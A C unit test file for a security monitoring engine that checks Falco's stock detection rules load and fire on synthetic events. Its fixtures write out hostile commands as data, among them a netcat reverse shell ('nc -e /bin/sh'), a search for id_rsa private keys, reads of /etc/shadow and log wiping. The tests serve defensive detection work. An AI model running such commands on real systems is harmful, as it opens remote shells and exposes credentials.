// SPDX-License-Identifier: Apache-2.0
/*
 * Compatibility with Falco's stock rule files (../shared/compat/falco): each
 * file alone and all three in order load unmodified with every rule
 * compiled; synthetic events that must and must not trigger specific stock
 * rules, with and without a state tracker. Without the files each test skips
 * and says which file is missing, except with CI=true, where it fails
 * (tu_skip_or_fail). Each test loads what it needs itself: none skips or
 * passes because an earlier one failed.
 */
#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <unistd.h>
#include <cmocka.h>

#include "test_rules_util.h"
#include "testutil.h"

static char dir[1024];
static char files[3][1200];
static const char *const names[3] = { "falco_rules.yaml", "falco-incubating_rules.yaml",
				      "falco-sandbox_rules.yaml" };
static struct vgl_ruleset *all3;

static int setup(void **state)
{
	const char *src = getenv("VIGIL_SOURCE_DIR");
	int i;

	(void)state;
	if (src) {
		snprintf(dir, sizeof(dir), "%s/../shared/compat/falco", src);
	} else {
		snprintf(dir, sizeof(dir), "%s", __FILE__);
		*strrchr(dir, '/') = '\0';
		strcat(dir, "/../../../shared/compat/falco");
	}
	for (i = 0; i < 3; i++)
		snprintf(files[i], sizeof(files[i]), "%s/%s", dir, names[i]);
	return 0;
}

/* The three stock files are readable; skips (fails with CI=true) otherwise. */
static void need_stock_files(void)
{
	for (int i = 0; i < 3; i++) {
		if (access(files[i], R_OK))
			tu_skip_or_fail("Falco stock rule file %s: %s (the compatibility target "
					"../shared/compat/falco is missing)",
					files[i], strerror(errno));
	}
}

static int teardown(void **state)
{
	(void)state;
	vgl_ruleset_free(all3);
	return 0;
}

static struct vgl_ruleset *load(const char *const *f, size_t n, size_t *ret_warnings)
{
	struct vgl_ruleset *rs = NULL;
	struct vgl_diag d;

	vgl_diag_init(&d);
	if (vgl_ruleset_load(f, n, NULL, &rs, &d))
		diag_dump(&d);
	assert_int_equal(d.nerrors, 0);
	if (ret_warnings)
		*ret_warnings = d.nwarnings;
	vgl_diag_free(&d);
	assert_non_null(rs);
	return rs;
}

/*
 * All three files loaded together, by the first test that needs them: a test
 * after a failed load loads them again and fails with the load's errors.
 */
static void need_all3(void)
{
	const char *f[3] = { files[0], files[1], files[2] };

	need_stock_files();
	if (!all3)
		all3 = load(f, 3, NULL);
}

static void test_each_file_alone(void **state)
{
	static const size_t rules[3] = { 25, 31, 37 }, enabled[3] = { 25, 31, 25 };
	size_t i, r, on, warn;

	(void)state;
	need_stock_files();
	for (i = 0; i < 3; i++) {
		const char *f[1] = { files[i] };
		struct vgl_ruleset *rs = load(f, 1, &warn);

		assert_int_equal(warn, 0);
		assert_int_equal(vgl_ruleset_nrules(rs), rules[i]);
		for (r = 0, on = 0; r < vgl_ruleset_nrules(rs); r++)
			on += vgl_ruleset_rule(rs, r)->enabled;
		assert_int_equal(on, enabled[i]);
		vgl_ruleset_free(rs);
	}
}

static void test_all_three(void **state)
{
	bool kinds[VGL_EV_MAX];
	size_t r;

	(void)state;
	need_all3();
	assert_int_equal(vgl_ruleset_nrules(all3), 93);
	/* Every rule compiled to a candidate set of event kinds. */
	for (r = 0; r < vgl_ruleset_nrules(all3); r++) {
		bool any = false;

		for (int k = 1; k < VGL_EV_MAX; k++)
			any = any || vgl_ruleset_rule_kind(all3, r, k);
		assert_true(any);
	}
	vgl_ruleset_kinds(all3, kinds);
	assert_true(kinds[VGL_EV_EXECVE] && kinds[VGL_EV_OPENAT] && kinds[VGL_EV_CONNECT]);
	assert_true(kinds[VGL_EV_PTRACE] && kinds[VGL_EV_INIT_MODULE]);
	assert_false(kinds[VGL_EV_PROCEXIT] || kinds[VGL_EV_CLONE] || kinds[VGL_EV_SETGID]);
}

/* A small process / container world for the state-dependent rules. */
struct world {
	struct vgl_proc_view self, parent;
	struct vgl_container_view ctr;
	bool in_container;
};

static const struct vgl_proc_view *w_proc(void *state, uint32_t pid)
{
	struct world *w = state;

	return pid == w->self.pid ? &w->self : pid == w->parent.pid ? &w->parent : NULL;
}

static const struct vgl_container_view *w_ctr(void *state, uint64_t cg, uint32_t pid)
{
	static const struct vgl_container_view host = { .id = "host" };
	struct world *w = state;

	(void)cg;
	(void)pid;
	return w->in_container ? &w->ctr : &host;
}

static const char *w_user(void *state, uint32_t uid, uint32_t pid)
{
	(void)state;
	(void)pid;
	return uid == 0 ? "root" : uid == 1000 ? "user" : NULL;
}

static const struct vgl_field_state_ops w_ops = {
	.proc = w_proc,
	.container = w_ctr,
	.user_name = w_user,
};

static void world_init(struct world *w, const char *comm, const char *parent, bool container)
{
	memset(w, 0, sizeof(*w));
	w->self = (struct vgl_proc_view){ .pid = 4242, .ppid = 1, .name = comm, .tty = 0 };
	w->parent = (struct vgl_proc_view){ .pid = 1, .ppid = 0, .name = parent, .tty = 0 };
	w->ctr = (struct vgl_container_view){ .id = "0123456789ab",
					      .name = "web",
					      .image_repository = "docker.io/library/nginx" };
	w->in_container = container;
}

static bool fires(const struct vgl_event *ev, struct world *w, const char *rule)
{
	struct hits h;

	eval_hits(all3, ev, w ? &w_ops : NULL, w, &h);
	return hits_has(&h, rule);
}

static void test_stateless_rules(void **state)
{
	struct tev t;

	(void)state;
	need_all3();
	tev_open(&t, "cat", "/etc/shadow", O_RDONLY, 3);
	assert_true(fires(&t.ev, NULL, "Read sensitive file untrusted"));
	tev_open(&t, "cat", "/etc/shadow", O_RDONLY, -13);
	assert_false(fires(&t.ev, NULL, "Read sensitive file untrusted"));
	tev_open(&t, "cat", "/etc/hosts", O_RDONLY, 3);
	assert_false(fires(&t.ev, NULL, "Read sensitive file untrusted"));
	tev_open(&t, "bash", "/var/log/syslog", O_WRONLY | O_TRUNC, 3);
	assert_true(fires(&t.ev, NULL, "Clear Log Activities"));
	tev_open(&t, "bash", "/var/log/syslog", O_RDONLY, 3);
	assert_false(fires(&t.ev, NULL, "Clear Log Activities"));
	tev_exec(&t, "x", "/dev/shm/x", "/dev/shm/x");
	assert_true(fires(&t.ev, NULL, "Execution from /dev/shm"));
	tev_exec(&t, "ls", "/usr/bin/ls", "ls /dev/shm");
	assert_false(fires(&t.ev, NULL, "Execution from /dev/shm"));
	tev_exec(&t, "x", "/memfd:payload (deleted)", "x");
	assert_true(fires(&t.ev, NULL, "Fileless execution via memfd_create"));
	tev_exec(&t, "nc", "/usr/bin/nc", "nc -e /bin/sh 10.0.0.1 4444");
	assert_true(fires(&t.ev, NULL, "Netcat/Socat Remote Code Execution on Host"));
	tev_exec(&t, "nc", "/usr/bin/nc", "nc -l 8080");
	assert_false(fires(&t.ev, NULL, "Netcat/Socat Remote Code Execution on Host"));
	tev_exec(&t, "find", "/usr/bin/find", "find / -name id_rsa");
	assert_true(fires(&t.ev, NULL, "Search Private Keys or Passwords"));
	tev_init(&t, VGL_EV_PTRACE, "evil", 4242, 0);
	tev_num(&t, "request", 16); /* PTRACE_ATTACH */
	tev_num(&t, "pid", 1);
	assert_true(fires(&t.ev, NULL, "PTRACE attached to process"));
	tev_num(&t, "request", 2); /* PTRACE_PEEKDATA */
	assert_false(fires(&t.ev, NULL, "PTRACE attached to process"));
}

static void test_state_rules(void **state)
{
	struct world w;
	struct tev t;

	(void)state;
	need_all3();
	tev_exec(&t, "bash", "/bin/bash", "bash");
	world_init(&w, "bash", "runc:[1:CHILD]", true);
	w.self.tty = 34816;
	assert_true(fires(&t.ev, &w, "Terminal shell in container"));
	assert_false(fires(&t.ev, NULL, "Terminal shell in container"));
	w.self.tty = 0;
	assert_false(fires(&t.ev, &w, "Terminal shell in container"));
	w.self.tty = 34816;
	w.in_container = false;
	assert_false(fires(&t.ev, &w, "Terminal shell in container"));

	tev_init(&t, VGL_EV_INIT_MODULE, "insmod", 4242, 0);
	tev_num(&t, "length", 100);
	world_init(&w, "insmod", "bash", true);
	w.self.caps_known = true;
	w.self.cap_effective = 1ull << 16; /* CAP_SYS_MODULE */
	assert_true(fires(&t.ev, &w, "Linux Kernel Module Injection Detected"));
	w.self.cap_effective = 1ull << 21;
	assert_false(fires(&t.ev, &w, "Linux Kernel Module Injection Detected"));
	assert_false(fires(&t.ev, NULL, "Linux Kernel Module Injection Detected"));
}

static int json_cb(void *data, const struct vgl_ruleset *rs, size_t rule, struct vgl_match_ctx *ctx)
{
	struct vgl_alert_meta meta = { .hostname = "node1", .time_ns = 1763798400123456789 };
	char **out = data;

	if (strcmp(vgl_ruleset_rule(rs, rule)->name, "Read sensitive file untrusted"))
		return 0;
	*out = vgl_alert_json(ctx, rule, &meta);
	return 1;
}

static void test_stock_alert_json(void **state)
{
	struct vgl_match_ctx *ctx;
	char *json = NULL;
	struct tev t;

	(void)state;
	need_all3();
	tev_open(&t, "cat", "/etc/shadow", O_RDONLY, 3);
	ctx = vgl_match_ctx_new(all3);
	vgl_ruleset_eval(all3, ctx, &t.ev, NULL, NULL, json_cb, &json);
	assert_non_null(json);
	assert_non_null(strstr(json, "\"rule\":\"Read sensitive file untrusted\""));
	assert_non_null(strstr(json, "\"priority\":\"Warning\""));
	assert_non_null(strstr(json,
			       "\"output\":\"08:00:00.123456789: Warning Sensitive file "
			       "opened for reading by non-trusted program | file=/etc/shadow"));
	assert_non_null(strstr(json, "\"fd.name\":\"/etc/shadow\""));
	assert_non_null(strstr(json, "\"user.name\":null"));
	assert_non_null(strstr(json, "\"user.uid\":1000"));
	assert_non_null(strstr(json, "\"time\":\"2025-11-22T08:00:00.123456789Z\""));
	free(json);
	vgl_match_ctx_free(ctx);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_each_file_alone),	 cmocka_unit_test(test_all_three),
		cmocka_unit_test(test_stateless_rules),	 cmocka_unit_test(test_state_rules),
		cmocka_unit_test(test_stock_alert_json),
	};

	return cmocka_run_group_tests(tests, setup, teardown);
}
